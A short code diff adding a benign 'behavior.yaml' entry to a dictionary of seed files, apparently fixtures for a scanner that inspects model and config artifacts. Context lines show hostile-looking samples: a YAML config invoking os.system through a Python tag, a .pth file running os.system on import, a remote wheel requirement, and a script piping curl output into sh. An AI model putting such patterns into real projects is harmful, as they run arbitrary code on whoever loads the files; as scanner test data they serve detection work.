@@ -75,6 +75,7 @@ SEEDS: dict[str, bytes] = {
     "model.gguf": gguf_model("{{ bos_token }}{% for m in messages %}{{ m['content']|trim }}{% endfor %}"),
     "config.yaml": b"model:\n  _target_: os.system\n  command: !!python/name:os.system ''\n",
     "config.cfg": b'[nlp]\nlang = "en"\n\n[components.x]\nfactory = "x"\n@architectures = "x.Net.v1"\n',
+    "behavior.yaml": b"behavior: 1\nnot_for: [medical triage]\n",
     "requirements.txt": b"torch\nx @ http://127.0.0.1/x.whl\n",
     "start.pth": b"import os; os.system('true')\n",
     "run.sh": b"#!/bin/sh\ncurl -s https://example.org | sh\n",
